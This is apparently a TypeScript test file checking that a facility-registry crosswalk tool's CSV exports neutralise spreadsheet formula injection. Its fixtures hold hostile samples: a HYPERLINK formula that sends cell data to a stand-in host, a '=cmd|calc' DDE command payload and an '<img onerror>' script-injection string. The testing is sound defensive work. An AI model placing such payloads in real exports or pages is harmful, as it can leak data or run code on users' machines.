import t from 'tap';
import type { CrosswalkRow } from '../../../src/registry/crosswalk-types.js';
import { crosswalkToCsv, reviewToCsv } from '../../../src/registry/crosswalk.js';
import Papa from 'papaparse';

/**
 * A data manager opens the exports in Excel or LibreOffice. A cell that starts with = + - @, a tab
 * or a carriage return is read there as a formula (OWASP "CSV Injection"), and facility names,
 * system ids and flag comments come from upstream systems and people. Each such cell is prefixed
 * with a single quote and quoted, so the spreadsheet shows it as text.
 */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Kaumu")', '+1+2', '-2+3', '@SUM(1,2)', '\tTabbed', '\r=1'];

function row(systemId: string, patch: Partial<CrosswalkRow> = {}): CrosswalkRow {
  return {
    system: 'openlmis',
    systemId,
    state: 'review',
    zone: 'review',
    score: -0.25,
    reasons: [],
    suggestions: [{ registryId: 'R1', score: 0.5, reasons: [{ field: 'name', weight: -0.5, detail: 'far' }] }],
    decidedBy: 'auto',
    decidedAt: '2026-01-01T00:00:00Z',
    ...patch,
  };
}

/** Cells as a spreadsheet reads them (RFC 4180), a carriage return inside a quoted cell kept. */
const parseCsvRows = (csv: string) => Papa.parse<string[]>(csv, { newline: '\n', skipEmptyLines: true }).data;

/** True when a spreadsheet would start a formula in this cell (a plain number such as -0.25 is a number). */
const formulaLike = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

t.test('crosswalk CSV: ids and comments that look like formulas are text in a spreadsheet', async (t) => {
  const rows = HOSTILE.map((h, i) => row(`${h}`, { comment: h, decidedBy: i === 0 ? '=cmd|calc' : 'alice' }));
  const csv = crosswalkToCsv(rows);
  const parsed = parseCsvRows(csv);
  t.same(parsed[0], [
    'system',
    'system_id',
    'registry_id',
    'state',
    'zone',
    'score',
    'decided_by',
    'decided_at',
    'comment',
  ]);
  for (const [i, h] of HOSTILE.entries()) {
    const cells = parsed[i + 1];
    t.equal(cells[1], `'${h}`, `system id ${JSON.stringify(h)} is prefixed`);
    t.equal(cells[8], `'${h}`, `comment ${JSON.stringify(h)} is prefixed`);
    t.notOk(cells.some(formulaLike), `no cell of row ${i + 1} starts a formula`);
  }
  t.equal(parsed[1][6], "'=cmd|calc", "a person's name is prefixed too");
  t.equal(parsed[1][5], '-0.25', 'a number stays a number (a negative score is not a formula)');
  t.match(csv, /,"'=HYPERLINK\(""http:\/\/evil/, 'the prefixed cell is quoted, inner quotes doubled');
});

t.test('review CSV: facility names from upstream that look like formulas are text', async (t) => {
  const names = {
    left: new Map(HOSTILE.map((h, i) => [`L${i}`, h])),
    right: new Map([['R1', '@Kaumu <img src=x onerror=alert(1)>']]),
  };
  const csv = reviewToCsv(
    HOSTILE.map((_, i) => row(`L${i}`)),
    names,
  );
  const parsed = parseCsvRows(csv);
  for (const [i, h] of HOSTILE.entries()) {
    t.equal(parsed[i + 1][2], `'${h}`, `name ${JSON.stringify(h)} is prefixed`);
    t.equal(parsed[i + 1][5], "'@Kaumu <img src=x onerror=alert(1)>");
    t.notOk(parsed[i + 1].some(formulaLike));
  }
});

t.test('commas, quotes, line breaks and non-ASCII survive a round trip; plain cells stay bare', async (t) => {
  const odd = 'Hôpital "Saint-Jean", Kigali\nannexe – ምዕራብ';
  const csv = crosswalkToCsv([row('a-1', { comment: odd }), row('plain')]);
  const parsed = parseCsvRows(csv);
  t.equal(parsed[1][8], odd);
  t.equal(parsed[1][1], 'a-1', 'a hyphen inside a value is no trigger');
  t.match(csv.split('\n').at(-2), /^openlmis,plain,,review,review,-0.25,auto,/);
});
